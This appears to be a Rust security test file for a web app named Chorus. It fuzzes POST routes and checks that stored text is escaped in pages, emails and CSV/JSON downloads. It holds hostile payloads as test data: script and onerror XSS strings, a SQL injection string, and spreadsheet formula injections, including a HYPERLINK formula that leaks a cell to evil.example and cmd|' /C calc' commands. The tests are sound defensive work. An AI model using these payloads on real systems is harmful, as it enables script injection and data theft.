//! Hostile input: every POST route under malformed, oversized and wrong
//! bodies never answers 5xx; script payloads in every stored text come back
//! escaped on pages and in the HTML part of every email; formula payloads
//! stay text in every CSV download.

use chorus::domain::consent::{Choice, Purpose};
use chorus::domain::platforms::Platform;
use chorus::store::{self, consent, posts};
use chorus::web::route_table;
use rand::{Rng, SeedableRng};

use crate::backend_test;
#[allow(unused_imports)]
use crate::helpers::*;

const FIELDS: &[&str] = &[
    "name",
    "email",
    "title",
    "link",
    "base_text",
    "caption_x_1",
    "caption_linkedin_2",
    "use_x",
    "platform",
    "purpose",
    "choice",
    "instance",
    "text",
    "reason",
    "note",
    "password",
    "new_password",
    "current_password",
    "markdown",
    "change",
    "action",
    "department",
    "target",
    "publish_at",
    "timezone",
    "expires_at",
    "org_name",
    "role_admin",
    "per_day_x",
    "share_ceiling_day_x",
    "k_anonymity",
    "digest_frequency",
    "day_x",
    "email_digest",
];

fn random_value(rng: &mut rand::rngs::StdRng) -> String {
    match rng.random_range(0..8) {
        0 => String::new(),
        1 => "x".repeat(rng.random_range(1..5000)),
        2 => "<script>alert(1)</script>".into(),
        3 => "'; DROP TABLE users; --".into(),
        4 => "日本語 🎉 \u{202e} \u{0}".into(),
        5 => rng.random_range(-1_000_000_i64..1_000_000).to_string(),
        6 => "https://example.com/?a=1&b=<x>".into(),
        _ => (0..rng.random_range(1..40))
            .map(|_| rng.random_range(32_u8..127) as char)
            .collect(),
    }
}

fn example(path: &str, id: i64) -> String {
    path.replace("{id:\\d+}", &id.to_string())
        .replace("{token}", "no-such-token")
        .replace("{platform}", "x")
        .replace("{table:[a-z]+}", "posts")
}

backend_test!(
    async fn every_post_route_survives_malformed_bodies_without_a_5xx(app) {
        let me = app.login_as("all@example.com", "employee,comms,admin").await;
        let now = app.clock.now_naive();
        let post = app
            .db(move |conn| {
                store::policy::publish(conn, "Policy", false, me, now)?;
                consent::record_choice(conn, me, Purpose::ShareSuggestions(Platform::X), Choice::Yes, None, "t", now)?;
                let id = posts::create_draft(conn, &posts::PostInput {
                    title: "t".into(), link: "https://example.com/t".into(), base_text: "t".into(),
                    captions: vec![(Platform::X, vec!["t".into()])], target_all: true, department_ids: vec![], expires_at: None,
                }, me, now)?;
                posts::schedule(conn, id, now, chrono_tz::UTC, me, now)?;
                Ok(id)
            })
            .await;
        let token = app.csrf_token_with(&app.client, "/").await;
        let mut rng = rand::rngs::StdRng::seed_from_u64(42);
        let mut tried = 0;
        for spec in route_table().into_iter().filter(|s| s.method == "POST") {
            // Logging out or erasing the account would end the session mid-run.
            if spec.path == "/logout" || spec.path == "/me/delete" {
                continue;
            }
            let path = example(spec.path, if spec.path.contains("people") { me } else { post });
            for round in 0..12 {
                let request = app.client.post(app.url(&path)).header("x-csrf-token", &token);
                let request = match round {
                    0 => request.header("content-type", "application/x-www-form-urlencoded").body(""),
                    1 => request.header("content-type", "application/json").body("{\"name\": [1, 2]}"),
                    2 => request.header("content-type", "application/x-www-form-urlencoded").body(vec![0xff, 0xfe, b'=', 0xfd]),
                    3 => request.header("content-type", "application/x-www-form-urlencoded").body(format!("name={}", "y".repeat(3 * 1024 * 1024))),
                    4 => request.header("content-type", "multipart/form-data; boundary=zz").body("--zz\r\nbroken"),
                    5 => request.header("content-type", "text/plain").body("just text"),
                    _ => {
                        let fields: Vec<(String, String)> = (0..rng.random_range(1..8))
                            .map(|_| (FIELDS[rng.random_range(0..FIELDS.len())].to_string(), random_value(&mut rng)))
                            .collect();
                        request.form(&fields)
                    }
                };
                let response = request.send().await.unwrap();
                let status = response.status().as_u16();
                assert!(status < 500, "POST {path} round {round}: {status}");
                tried += 1;
            }
        }
        assert!(tried > 300, "{tried} requests");
        // Nothing half-written: the ledger still verifies and the app still serves.
        app.db(consent::verify_all).await.expect("consent chains intact");
        assert_eq!(app.get("/healthz").await.status(), 200);
    }
);

const PAYLOAD: &str = "<script>alert(\"xss\")</script><img src=x onerror=alert(1)>";

fn assert_escaped(path: &str, body: &str) {
    assert!(
        !body.contains("<script>alert"),
        "{path} echoes a script tag"
    );
    assert!(
        !body.contains("<img src=x onerror"),
        "{path} echoes an img tag"
    );
}

backend_test!(
    async fn script_payloads_in_stored_text_come_back_escaped_everywhere(app) {
        let hub = app.login_as("hub@example.com", "employee,comms,admin").await;
        let victim = app.create_user_in("v@example.com", &format!("Eve {PAYLOAD}"), "employee", Some(&format!("Dept {PAYLOAD}"))).await;
        let now = app.clock.now_naive();
        let post = app
            .db(move |conn| {
                store::policy::publish(conn, &format!("# Policy\n\n{PAYLOAD}"), false, hub, now)?;
                for who in [hub, victim] {
                    consent::record_choice(conn, who, Purpose::ShareSuggestions(Platform::X), Choice::Yes, None, "t", now)?;
                }
                let id = posts::create_draft(conn, &posts::PostInput {
                    title: format!("Title {PAYLOAD}"), link: "https://example.com/t".into(), base_text: format!("Base {PAYLOAD}"),
                    captions: vec![(Platform::X, vec![format!("Caption {PAYLOAD}")])], target_all: true, department_ids: vec![], expires_at: None,
                }, hub, now)?;
                posts::schedule(conn, id, now, chrono_tz::UTC, hub, now)?;
                store::shares::record(conn, hub, id, Platform::X, 1, false, now)?;
                store::suggestions::create(conn, victim, "https://example.com/s", &format!("Note {PAYLOAD}"), now)?;
                posts::withdraw(conn, id, &format!("Reason {PAYLOAD}"), hub, now)?;
                Ok(id)
            })
            .await;
        let receipt = app.db(move |conn| consent::events_for(conn, hub)).await.remove(0).event_uuid;
        let mut paths: Vec<String> = route_table()
            .into_iter()
            .filter(|s| s.method == "GET" && !s.path.contains("{token}") && !s.path.contains("{file}"))
            .map(|s| {
                example(s.path, if s.path.contains("people") { victim } else { post })
                    .replace("{id:[0-9a-f-]+}", &receipt)
            })
            .collect();
        paths.push("/policy/1".into());
        for path in paths {
            let response = app.get(&path).await;
            assert!(response.status().as_u16() < 500, "{path}");
            let content_type = response.headers().get("content-type").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
            let body = response.text().await.unwrap();
            if path.ends_with(".json") || path.ends_with(".csv") {
                // Data downloads keep the text as written; browsers never render
                // them as HTML (their own type, nosniff, an attachment).
                assert!(!content_type.starts_with("text/html"), "{path}: {content_type}");
            } else {
                assert_escaped(&path, &body);
            }
        }
        let people = app.get_html("/admin/people").await;
        assert!(people.contains("&#60;script&#62;") || people.contains("&lt;script&gt;"), "the name is shown, escaped");
    }
);

// ---- Downloads and email: the same payloads, where they leave as files ----

const SCRIPT: &str = "<script>alert(1)</script>";
const ATTRIBUTE: &str = "\"><img src=x onerror=alert(1)>";
/// Cells a spreadsheet would run: a link out, a command, arithmetic, a function.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

// Every stored text that a download can carry holds a payload; each GET
// route ending in .csv or .json (found in the route table, so a new one is
// covered too) is fetched. CSV cells never start a formula, the parsed
// cells give back exactly the text written (no cell or row broken out of),
// and every download is an attachment of its own type with nosniff.
backend_test!(
    async fn script_and_formula_payloads_in_csv_and_json_downloads_stay_inert(app) {
        let hub = app.login_as("hub@example.com", "employee,comms,admin").await;
        // Departments are reported only from k = 5 people: five in each.
        let departments = [FORMULAS[0].to_string(), format!("Dept {SCRIPT}{ATTRIBUTE}"), FORMULAS[3].to_string()];
        let mut n = 0;
        for department in &departments {
            for _ in 0..5 {
                n += 1;
                app.create_user_in(&format!("p{n}@example.com"), &format!("{SCRIPT} {n}"), "employee", Some(department)).await;
            }
        }
        let now = app.clock.now_naive();
        let mut titles: Vec<String> = FORMULAS.iter().map(|f| f.to_string()).collect();
        titles.push(format!("{SCRIPT}{ATTRIBUTE}"));
        titles.push(format!("\t{}", FORMULAS[0]));
        let written = titles.clone();
        app.db(move |conn| {
            store::policy::publish(conn, &format!("# Policy\n\n{SCRIPT}"), false, hub, now)?;
            consent::record_choice(conn, hub, Purpose::ShareSuggestions(Platform::X), Choice::Yes, None, "t", now)?;
            for title in &written {
                let id = posts::create_draft(conn, &posts::PostInput {
                    title: title.clone(), link: "https://example.com/t".into(), base_text: title.clone(),
                    captions: vec![(Platform::X, vec![title.clone()])], target_all: true, department_ids: vec![], expires_at: None,
                }, hub, now)?;
                posts::schedule(conn, id, now, chrono_tz::UTC, hub, now)?;
                store::shares::record(conn, hub, id, Platform::X, 1, false, now)?;
            }
            store::suggestions::create(conn, hub, "https://example.com/s", &format!("{} {SCRIPT}", FORMULAS[1]), now)?;
            Ok(())
        })
        .await;
        let receipt = app.db(move |conn| consent::events_for(conn, hub)).await.remove(0).event_uuid;

        let downloads: Vec<&str> = route_table()
            .into_iter()
            .filter(|s| s.method == "GET" && (s.path.ends_with(".csv") || s.path.ends_with(".json")))
            // The API's own description: no stored text, not a download.
            .filter(|s| !s.path.starts_with("/api/"))
            .map(|s| s.path)
            .collect();
        assert!(downloads.len() >= 3, "{downloads:?}");
        let mut csv_cells: Vec<String> = Vec::new();
        let mut json_strings: Vec<String> = Vec::new();
        for route in downloads {
            let paths: Vec<String> = if route.contains("{table:[a-z]+}") {
                ["posts", "platforms", "departments", "trend"].iter().map(|t| route.replace("{table:[a-z]+}", t)).collect()
            } else {
                vec![route.replace("{id:[0-9a-f-]+}", &receipt)]
            };
            for path in paths {
                assert!(!path.contains('{'), "an example for {route}");
                let response = app.get(&path).await;
                assert_eq!(response.status(), 200, "{path}");
                let header = |name: &str| response.headers().get(name).map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
                let (content_type, disposition) = (header("content-type"), header("content-disposition"));
                assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
                assert!(disposition.starts_with("attachment"), "{path}: {disposition}");
                let body = response.text().await.unwrap();
                if path.ends_with(".csv") {
                    assert!(content_type.starts_with("text/csv"), "{path}: {content_type}");
                    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(false).from_reader(body.as_bytes());
                    for record in reader.records() {
                        for cell in record.expect("well-formed CSV").iter() {
                            assert!(
                                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                                "{path}: a spreadsheet would run {cell:?}"
                            );
                            csv_cells.push(cell.to_string());
                        }
                    }
                } else {
                    assert!(content_type.starts_with("application/json"), "{path}: {content_type}");
                    let value: serde_json::Value = serde_json::from_str(&body).expect("valid JSON");
                    collect_strings(&value, &mut json_strings);
                }
            }
        }
        // The texts are there, cell for cell, kept as text by a leading apostrophe.
        for title in titles.iter().chain(departments.iter()) {
            let expected = if title.starts_with(['=', '+', '-', '@', '\t']) { format!("'{title}") } else { title.clone() };
            assert!(csv_cells.contains(&expected), "{expected:?} is a cell of its own");
        }
        // JSON gives the person's own texts back exactly as written.
        assert!(json_strings.iter().any(|s| s == &format!("{} {SCRIPT}", FORMULAS[1])), "the suggestion note");
    }
);

fn collect_strings(value: &serde_json::Value, into: &mut Vec<String>) {
    match value {
        serde_json::Value::String(s) => into.push(s.clone()),
        serde_json::Value::Array(items) => items.iter().for_each(|v| collect_strings(v, into)),
        serde_json::Value::Object(map) => map.values().for_each(|v| collect_strings(v, into)),
        _ => {}
    }
}

/// What a browser shows for an HTML text: character references undone.
fn html_text(html: &str) -> String {
    let mut out = String::new();
    let mut rest = html;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let end = rest.find(';').filter(|e| *e < 10);
        let decoded = end.and_then(|e| match &rest[1..e] {
            "lt" => Some('<'),
            "gt" => Some('>'),
            "amp" => Some('&'),
            "quot" => Some('"'),
            "apos" => Some('\''),
            num if num.starts_with("#x") => u32::from_str_radix(&num[2..], 16)
                .ok()
                .and_then(char::from_u32),
            num if num.starts_with('#') => num[1..].parse().ok().and_then(char::from_u32),
            _ => None,
        });
        match (decoded, end) {
            (Some(c), Some(e)) => {
                out.push(c);
                rest = &rest[e + 1..];
            }
            _ => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

// Every kind of email (invitation, password reset, digest, withdrawal
// notice) with payloads in every stored text it shows: the organisation's
// name, the person's name, the post's text, title and caption, its link,
// the withdrawal reason. The HTML part shows each text escaped and never
// carries the raw tag; the plain-text part carries the text as written.
backend_test!(
    async fn script_payloads_in_every_email_are_escaped_in_the_html_part(app) {
        use chorus::jobs::delivery::deliver_once;
        use chorus::mail::transport::Mailer;
        let org = format!("Acme {SCRIPT}{ATTRIBUTE}");
        let person = format!("Eve {SCRIPT}{ATTRIBUTE}");
        let newcomer = format!("New {SCRIPT}{ATTRIBUTE}");
        let text = format!("Read this {SCRIPT}{ATTRIBUTE} {}", FORMULAS[0]);
        let reason = format!("Wrong {SCRIPT}{ATTRIBUTE}");
        let link = chorus::domain::post::parse_link(&format!("https://example.com/news?q={ATTRIBUTE}")).unwrap();
        app.login_as("admin@example.com", "admin,comms").await;
        let me = app.create_user("emp@example.com", &person, "employee").await;
        let now = app.clock.now_naive();
        let (org_name, post_text, post_link) = (org.clone(), text.clone(), link.clone());
        app.change_settings(move |change| change.org_name = org_name).await;
        let post = app
            .db(move |conn| {
                store::policy::publish(conn, "Policy", false, 1, now)?;
                for purpose in [Purpose::ShareSuggestions(Platform::X), Purpose::EmailDigest] {
                    consent::record_choice(conn, me, purpose, Choice::Yes, None, "test", now)?;
                }
                store::users::set_digest_settings(conn, me, &store::users::DigestSettings {
                    frequency: "daily".into(), weekday: 1, hour: 0, max_posts: 5, last_digest_at: None,
                })?;
                let id = posts::create_draft(conn, &posts::PostInput {
                    title: post_text.clone(), link: post_link, base_text: post_text.clone(),
                    captions: vec![(Platform::X, vec![post_text])], target_all: true, department_ids: vec![], expires_at: None,
                }, 1, now)?;
                posts::schedule(conn, id, now, chrono_tz::UTC, 1, now)?;
                Ok(id)
            })
            .await;
        let invited = app
            .post_form("/admin/people/new", &[("email", "new@example.com"), ("name", &newcomer), ("role_employee", "on")])
            .await;
        assert_eq!(invited.status(), 200);
        let reset = app.post_form_with(&new_client(), "/password/forgot", &[("email", "emp@example.com")]).await;
        assert_eq!(reset.status(), 200);
        app.db(move |conn| store::digests::plan_all(conn, now, "localhost")).await;

        let (mailer, sent) = Mailer::memory();
        let settings = chorus::startup::delivery_settings(&app.config, &app.address);
        deliver_once(&app.state.db, &mailer, &app.clock, &settings).await.unwrap();
        // The digest listed the post; the person shares it, then it is withdrawn.
        let withdrawal = reason.clone();
        app.db(move |conn| {
            store::shares::record(conn, me, post, Platform::X, 1, false, now)?;
            posts::withdraw_and_notify(conn, post, &withdrawal, 1, now, "localhost").map(|_| ())
        })
        .await;
        deliver_once(&app.state.db, &mailer, &app.clock, &settings).await.unwrap();

        let messages: Vec<String> = sent.lock().unwrap().iter().map(|m| m.raw.clone()).collect();
        // (what identifies the email in its text part, the texts it must show)
        let expected: [(&str, Vec<&str>); 4] = [
            ("invites you to Chorus", vec![&newcomer, &org]),
            ("reset the password", vec![&person, &org]),
            ("New from", vec![&person, &org, &text, &link]),
            ("withdrew a post", vec![&person, &reason, &link]),
        ];
        let subjects: Vec<&str> = messages.iter().filter_map(|m| m.lines().find(|l| l.starts_with("Subject:"))).collect();
        assert_eq!(messages.len(), expected.len(), "one email of each kind: {subjects:?}");
        for (marker, shown) in expected {
            let raw = messages
                .iter()
                .find(|m| crate::smtp_server::mime_parts(m).iter().any(|(kind, body)| kind.starts_with("text/plain") && body.contains(marker)))
                .unwrap_or_else(|| panic!("an email saying {marker:?}"));
            let parts = crate::smtp_server::mime_parts(raw);
            let plain = &parts.iter().find(|(kind, _)| kind.starts_with("text/plain")).expect("a text part").1;
            let html = &parts.iter().find(|(kind, _)| kind.starts_with("text/html")).expect("an HTML part").1;
            for text in shown {
                assert!(plain.contains(text), "{marker}: the text part shows {text:?} as written:\n{plain}");
                assert!(html_text(html).contains(text), "{marker}: the HTML part shows {text:?}:\n{html}");
            }
            for tag in ["<script", "<img", "onerror=alert(1)>"] {
                assert!(!html.contains(tag), "{marker}: the HTML part carries a raw {tag:?}:\n{html}");
            }
            assert!(html.contains("&#60;script&#62;") || html.contains("&lt;script&gt;"), "{marker}: escaped:\n{html}");
        }
    }
);
